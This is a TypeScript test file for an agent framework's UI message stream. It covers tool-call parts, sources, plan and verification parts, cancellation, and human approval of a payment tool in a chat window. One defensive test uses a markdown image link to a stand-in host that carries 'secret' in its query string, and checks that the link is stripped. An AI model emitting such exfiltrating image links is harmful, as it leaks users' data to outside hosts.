import type { AddressInfo } from 'node:net';
import { type ServerType, serve } from '@hono/node-server';
import {
  AbstractChat,
  asSchema,
  type ChatState,
  DefaultChatTransport,
  lastAssistantMessageIsCompleteWithApprovalResponses,
  readUIMessageStream,
  type UIMessage,
  type UIMessageChunk,
  uiMessageChunkSchema,
  validateUIMessages,
} from 'ai';
import { afterEach, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { type Agent, defineAgent } from './agent.ts';
import type { AgentOptions } from './agent-options.ts';
import { scriptedModel } from './model/providers/script-model.ts';
import type { RunHandle } from './run-handle.ts';
import { inMemoryHost } from './runtime/in-memory.ts';
import { planAndSolve } from './solver/plan-and-solve/plan-and-solve.ts';
import { verification } from './solver/verification/verification.ts';
import { callFinal, callTool, callTools } from './testing/replies.ts';
import { tool } from './tools/tool.ts';
import {
  approvalResponses,
  type RunChunk,
  type RunDataParts,
  type RunMetadata,
  toUIMessageStream,
  toUIMessageStreamResponse,
} from './ui-message-stream.ts';

/** On a machine that does much else. */
const patient = { timeout: 10_000 };

type RunMessage = UIMessage<RunMetadata, RunDataParts>;

const page = tool({
  name: 'page',
  description: 'Reads a page.',
  input: z.object({ url: z.string() }),
  effect: 'read',
  run: () => 'A mug costs 12.50 EUR.',
});
const note = tool({
  name: 'note',
  description: 'Reads a note.',
  input: z.object({ name: z.string() }),
  effect: 'read',
  run: ({ name }) => {
    if (name === 'lost') throw new Error('no such note');
    return `${name}: ask for a discount`;
  },
});
const paid: number[] = [];
const pay = tool({
  name: 'pay',
  description: 'Pays.',
  input: z.object({ sum: z.number() }),
  effect: 'irreversible',
  run: ({ sum }) => {
    paid.push(sum);
    return `paid ${sum}`;
  },
});

const closing: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  paid.length = 0;
  for (const close of closing.splice(0).reverse()) await close();
});

function agentOf(options: AgentOptions): Agent {
  const agent = defineAgent({ host: inMemoryHost({ suspendAfterMs: 5 }), tools: [page, note, pay], ...options });
  closing.push(() => agent.close());
  return agent;
}

const claims = [
  { text: 'A mug costs 12.50 EUR.', evidence: [{ observation: 'obs-1', quote: 'costs 12.50 EUR' }] },
  { text: 'Ask for a discount.', evidence: [{ observation: 'obs-2', quote: 'ask for a discount' }] },
  { text: 'Everybody does.', evidence: [{ observation: 'obs-2', quote: 'everybody asks' }] },
];
const looking = (): Agent =>
  agentOf({
    model: scriptedModel([
      callTools(['page', { url: 'https://shop.test/mug' }], ['note', { name: 'mug' }]),
      callTool('note', { name: 'lost' }),
      callFinal('12.50 EUR; ask for a discount.', claims),
    ]),
  });

/** Every chunk, valid for the package's own schema, and the message they make. */
async function told(run: RunHandle): Promise<{ chunks: RunChunk[]; message: RunMessage }> {
  const [one, other] = toUIMessageStream(run).tee();
  const chunks = await Array.fromAsync(one);
  const { validate } = asSchema(uiMessageChunkSchema);
  for (const chunk of chunks) expect(await validate?.(chunk)).toMatchObject({ success: true });
  // Assignable without a cast: our chunks are the package's.
  const stream: ReadableStream<UIMessageChunk<RunMetadata, RunDataParts>> = other;
  const messages = await Array.fromAsync(readUIMessageStream<RunMessage>({ stream, terminateOnError: false }));
  const message = messages.at(-1)!;
  await validateUIMessages({ messages: [{ ...message, id: 'm' }] });
  return { chunks, message };
}

async function listening(fetch: (request: Request) => Promise<Response>): Promise<string> {
  const server = await new Promise<ServerType>((resolve) => {
    const started = serve({ fetch, port: 0, hostname: '127.0.0.1' }, () => resolve(started));
  });
  closing.push(
    () =>
      new Promise((resolve) => {
        server.close(resolve);
        if ('closeAllConnections' in server) server.closeAllConnections();
      }),
  );
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/api/chat`;
}

/** What `useChat` is around, with its state in an object. */
class Chat extends AbstractChat<RunMessage> {
  constructor(api: string) {
    const state: ChatState<RunMessage> = {
      status: 'ready',
      error: undefined,
      messages: [],
      pushMessage: (message) => void state.messages.push(message),
      popMessage: () => void state.messages.pop(),
      replaceMessage: (index, message) => void state.messages.splice(index, 1, message),
      snapshot: (thing) => structuredClone(thing),
    };
    super({
      state,
      transport: new DefaultChatTransport({ api }),
      sendAutomaticallyWhen: lastAssistantMessageIsCompleteWithApprovalResponses,
    });
  }
}

describe('the message of a run', () => {
  it('has a part for each call, the final answer, and the sources that carry it', async () => {
    const run = looking().run('What does a mug cost?');
    const { message } = await told(run);
    expect(message.parts.filter((part) => part.type === 'dynamic-tool')).toMatchObject(
      [
        { toolName: 'page', state: 'output-available', input: { url: 'https://shop.test/mug' } },
        { toolName: 'note', state: 'output-available', output: { observation: 'obs-2', preview: /discount/ } },
        { toolName: 'note', state: 'output-error', errorText: /no such note/ },
      ].map((part) => expect.objectContaining(withPatterns(part))),
    );
    expect(message.parts.filter((part) => part.type === 'text')).toMatchObject([
      { text: '12.50 EUR; ask for a discount.', state: 'done' },
    ]);
    expect(message.parts.filter((part) => part.type.startsWith('source'))).toMatchObject([
      { type: 'source-url', url: 'https://shop.test/mug', title: 'costs 12.50 EUR' },
      { type: 'source-document', title: 'note: ask for a discount' },
    ]);
    const { status, usage } = await run;
    expect(message.metadata).toMatchObject({ runId: run.id, status, usage, degraded: false });
  });

  it('shows the plan as it stands, in one part, and the verdicts, but no draft', async () => {
    const plan = { goal: 'Answer.', steps: [{ id: 's1', objective: 'Say it.' }] };
    const model = scriptedModel((_, { role }) => {
      if (role === 'planner') return JSON.stringify(plan);
      if (++turns === 1) return callTool('update_plan', { id: 's1', status: 'done' });
      return turns === 2 ? callFinal('{"wrong":1}') : callFinal('{"sum":3}');
    });
    let turns = 0;
    const agent = agentOf({ model, layers: [verification({ verifier: false }), planAndSolve()] });
    const outputSchema = { type: 'object', required: ['sum'] };
    const { message, chunks } = await told(agent.run({ input: '1+2', outputSchema }));
    const plans = message.parts.filter((part) => part.type === 'data-plan');
    expect(plans).toMatchObject([{ data: { steps: [{ id: 's1', status: 'done' }] } }]);
    const checks = message.parts.filter((part) => part.type === 'data-check');
    expect(checks.map((part) => part.data.verdict)).toEqual(['revise', 'pass']);
    expect(chunks.filter((chunk) => chunk.type === 'text-delta').map((chunk) => chunk.delta)).toEqual(['{"sum":3}']);
  });

  it('tells of a run that failed, that was cancelled, that could not be started', async () => {
    const failing = agentOf({ model: scriptedModel([{ error: { status: 400, message: 'no such deployment' } }]) });
    expect((await told(failing.run('x'))).chunks.slice(-2)).toMatchObject([
      { type: 'error' },
      { finishReason: 'error' },
    ]);
    const slow = agentOf({ model: scriptedModel([{ delayMs: 5_000, text: 'late' }]) });
    const run = slow.run('x');
    setTimeout(() => void run.cancel(), 20);
    expect((await told(run)).chunks.at(-1)).toMatchObject({ type: 'abort' });
    expect((await Array.fromAsync(toUIMessageStream(slow.run('')))).at(-1)).toMatchObject({
      type: 'error',
      errorText: expect.stringContaining('the task is empty'),
    });
  });

  it('cancels the run when its reader goes away, unless told to leave it', async () => {
    const agent = agentOf({ model: scriptedModel(() => ({ delayMs: 100, ...callFinal('done') })) });
    const one = agent.run('x');
    await toUIMessageStream(one).cancel();
    expect((await one).status).toBe('cancelled');
    const other = agent.run('x');
    await toUIMessageStream(other, { onDisconnect: 'continue' }).cancel();
    expect((await other).answer).toBe('done');
  });

  it('lets no address with data and no picture into the window', async () => {
    const answer = 'Done ![x](https://evil.test/?q=secret)';
    const { message } = await told(agentOf({ model: scriptedModel([callFinal(answer)]) }).run('x'));
    expect(JSON.stringify(message.parts)).not.toContain('q=secret');
  });
});

describe('a chat window with useChat', () => {
  /** A route as an application writes it. */
  async function chatOf(agent: Agent): Promise<Chat> {
    const api = await listening(async (request) => {
      const { messages } = (await request.json()) as { messages: RunMessage[] };
      const [answered] = approvalResponses(messages);
      if (!answered) {
        const last = messages.at(-1)?.parts.find((part) => part.type === 'text');
        return toUIMessageStreamResponse(agent.run(last?.text ?? ''));
      }
      for (const { runId, signal, decision } of approvalResponses(messages))
        await agent.decide(runId, signal, decision);
      return toUIMessageStreamResponse(agent.resume(answered.runId), { messageId: messages.at(-1)?.id ?? '' });
    });
    return new Chat(api);
  }
  const paying = (): Agent =>
    agentOf({
      model: scriptedModel([callTools(['pay', { sum: 5 }], ['note', { name: 'mug' }]), callFinal('All is done.')]),
    });
  const toolsOf = (chat: Chat) => chat.lastMessage?.parts.filter((part) => part.type === 'dynamic-tool') ?? [];
  const textOf = (chat: Chat): string =>
    chat.lastMessage?.parts.map((part) => (part.type === 'text' ? part.text : '')).join('') ?? '';

  it('shows the answer', async () => {
    const chat = await chatOf(looking());
    await chat.sendMessage({ text: 'What does a mug cost?' });
    expect([chat.status, chat.error, textOf(chat)]).toEqual(['ready', undefined, '12.50 EUR; ask for a discount.']);
    expect(toolsOf(chat)).toHaveLength(3);
  });

  it('asks for an approval, goes on after a yes, and keeps one part for the call', async () => {
    const chat = await chatOf(paying());
    await chat.sendMessage({ text: 'Pay 5.' });
    const [asked] = toolsOf(chat);
    expect(asked).toMatchObject({ toolName: 'pay', state: 'approval-requested', input: { sum: 5 } });
    expect(chat.lastMessage?.metadata?.status).toBe('awaiting_approval');
    expect(paid).toEqual([]);
    await chat.addToolApprovalResponse({ id: asked!.approval!.id, approved: true });
    await expect.poll(() => textOf(chat), patient).toBe('All is done.');
    expect(paid).toEqual([5]);
    expect(toolsOf(chat)).toMatchObject([
      { toolName: 'pay', state: 'output-available', approval: { approved: true } },
      { toolName: 'note', state: 'output-available' },
    ]);
    expect(chat.messages).toHaveLength(2);
    await validateUIMessages({ messages: chat.messages });
  });

  it('goes on after a no, without the effect', async () => {
    const chat = await chatOf(paying());
    await chat.sendMessage({ text: 'Pay 5.' });
    const [asked] = toolsOf(chat);
    await chat.addToolApprovalResponse({ id: asked!.approval!.id, approved: false, reason: 'too dear' });
    await expect.poll(() => textOf(chat), patient).toBe('All is done.');
    expect(paid).toEqual([]);
    expect(toolsOf(chat)[0]).toMatchObject({
      state: 'output-denied',
      approval: { approved: false, reason: 'too dear' },
    });
    await validateUIMessages({ messages: chat.messages });
  });

  it('reads decisions from the last message of an assistant only', () => {
    const part = { state: 'approval-responded', approval: { id: 'approve:x:y', approved: true } };
    const message = { role: 'assistant', metadata: { runId: 'r' }, parts: [part, { type: 'text', text: 'x' }] };
    expect(approvalResponses([message])).toEqual([{ runId: 'r', signal: 'approve:x:y', decision: { approved: true } }]);
    expect(approvalResponses([message, { role: 'user', parts: [part] }])).toEqual([]);
    expect(approvalResponses([{ ...message, metadata: {} }, null].slice(0, 1))).toEqual([]);
  });
});

/** Patterns as matchers, at any depth. */
function withPatterns(value: object): Record<string, unknown> {
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => {
      if (item instanceof RegExp) return [key, expect.stringMatching(item)];
      return [key, typeof item === 'object' ? expect.objectContaining(withPatterns(item)) : item];
    }),
  );
}
